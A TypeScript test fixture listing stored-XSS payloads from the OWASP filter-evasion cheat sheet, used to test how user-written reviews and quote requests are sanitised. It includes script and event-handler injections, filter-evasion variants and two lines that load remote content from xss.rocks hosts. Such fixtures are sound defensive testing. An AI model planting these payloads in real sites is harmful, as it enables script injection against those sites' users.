/** Stored-XSS payloads from the OWASP XSS Filter Evasion Cheat Sheet, for the tests of text people write (reviews, quote requests). */
export const OWASP_XSS: readonly string[] = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<svg/onload=alert(\'XSS\')>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '\\";alert(\'XSS\');//',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];
